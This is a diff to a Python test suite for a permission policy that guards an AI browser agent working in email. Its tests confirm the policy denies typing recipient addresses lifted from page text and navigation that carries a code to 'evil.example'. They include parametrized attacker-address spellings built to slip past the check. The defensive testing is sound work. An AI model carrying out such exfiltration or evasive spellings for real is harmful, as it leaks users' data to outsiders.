@@ -75,7 +75,7 @@ def test_always_ask_overrides_grants() -> None:
         ("Empty Junk", context(), "Permanent deletion"),
         ("Archive", context(paused=True), "paused"),
         ("Archive", context((RuleKind.SITE_BLOCK, {"host": "example"})), "blocked"),
-        ("Archive", context((RuleKind.SITE_ALLOW, {"host": "bank.example"})), "not on the user's list"),
+        ("Archive", context((RuleKind.SITE_BLOCK, {"host": "mail.example"})), "blocked Deputy"),
         ("Send", context((RuleKind.NEVER_SEND, {})), "never send"),
         ("Archive", context(destructive_done=45), "already changed 45"),
     ],
@@ -104,9 +104,44 @@ def test_addresses_and_urls_from_page_text_are_refused() -> None:
     assert decide(typed, context()).verdict is Verdict.DENY
     mine = proposal("type_text", Risk.LOCAL, "To", params={"ref": "e1", "text": "mum@family.example"})
     assert decide(mine, context(trusted_text="Reply to mum@family.example")).verdict is Verdict.ALLOW
-    leak = proposal("navigate", Risk.READ, "", params={"url": "https://evil.example/?code=731904"}, site="evil.example")
+
+
+def test_leaving_the_task_sites_asks_and_carrying_data_out_is_refused() -> None:
+    # The browser's scope judges the destination; the policy turns its verdict into a decision.
+    url = {"url": "https://evil.example/?code=731904"}
+    leak = proposal("navigate", Risk.READ, "", params=url, egress="deny", egress_reason="it carries 731904")
     assert decide(leak, context()).verdict is Verdict.DENY
+    away = proposal("navigate", Risk.READ, "", params={"url": "https://air.example/"}, egress="ask", egress_reason="x")
+    assert decide(away, context()).verdict is Verdict.ASK
     same_site = proposal("navigate", Risk.READ, "", params={"url": "https://mail.example/#trash"})
     assert decide(same_site, context()).verdict is Verdict.ALLOW
-    asked_for = proposal("navigate", Risk.READ, "", params={"url": "https://air.example/"}, site="air.example")
-    assert decide(asked_for, context(trusted_text="Check in at https://air.example/")).verdict is Verdict.ALLOW
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "attacker@evil.example",
+        "attacker@[127.0.0.1]",
+        "attacker@[IPv6:::1]",
+        '"attacker"@Evil.Example',
+        "Attacker <ATTACKER@EVIL.EXAMPLE>",
+        "attacker@xn--bcher-kva.example",
+        "attacker%40evil.example",
+        "mailto:attacker@evil.example",
+        "mum@family.example, attacker@evil.example",
+    ],
+)
+def test_an_address_from_page_text_is_refused_in_any_spelling(text: str) -> None:
+    typed = proposal("type_text", Risk.LOCAL, "To", params={"ref": "e1", "text": text})
+    decision = decide(typed, context(trusted_text="Reply to Mum <mum@family.example>"))
+    assert decision.verdict is Verdict.DENY
+    assert "did not come from the user" in decision.reason
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["mum@family.example", "MUM@Family.Example", '"mum"@family.example', "Mum <mum@family.example>", "Hi mum!"],
+)
+def test_the_users_own_address_may_be_typed_in_any_spelling(text: str) -> None:
+    typed = proposal("type_text", Risk.LOCAL, "To", params={"ref": "e1", "text": text})
+    assert decide(typed, context(trusted_text="Reply to Mum <MUM@family.example>")).verdict is Verdict.ALLOW
